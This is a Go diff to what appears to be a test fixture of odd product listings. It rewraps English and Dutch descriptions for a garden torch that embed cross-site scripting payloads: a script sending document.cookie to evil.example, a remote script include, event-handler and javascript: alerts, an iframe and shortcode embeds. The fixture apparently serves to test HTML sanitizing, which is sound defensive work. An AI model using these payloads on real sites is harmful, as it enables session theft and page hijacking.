@@ -7,13 +7,17 @@ func oddCatalogue() []Template {
 			Brand: "Halmveld", Category: "GARDEN_DECORATION_LIGHTING", Returns: "true", Shipping: parcel(),
 			Texts: inEnglishAndDutch(
 				"Garden torch",
-				"<p>Burns for six hours.<script>document.location='https://evil.example/?c='+document.cookie</script></div></div>"+
+				"<p>Burns for six "+
+					"hours.<script>document.location='https://evil.example/?c='+document.cookie</script></div></div>"+
 					"<img src=x onerror=\"alert(1)\"><p onclick=\"alert(2)\">Wind-proof <b>wick"+
 					"<a href=\"javascript:alert(3)\">More</a> <a href=\"&#106;avascript:alert(4)\">and more</a>"+
 					"<iframe src=\"https://evil.example/\"></iframe><style>body{display:none}</style>"+
 					"[gallery ids=\"1\"] [gallery ids=1] <svg onload=alert(5)><!-- <p> --><ul><li>Steel<li>Bamboo",
 				"Tuinfakkel",
-				"<p>Brandt zes uur.<script src=\"//evil.example/x.js\"></script></table>[embed]https://evil.example[/embed] <i>Bestand tegen wind"),
+				"<p>Brandt zes uur.<script "+
+					"src=\"//evil.example/x.js\"></script></table>[embed]https://evil.example[/embed] <i>Bestand "+
+					"tegen wind",
+			),
 			Variants: only("HLM-TORCH", "5.60", "12.50", 17, Option{"Size", "90 cm"}),
 			Pictures: pictures(1, Drop, "f08a24"),
 		}},
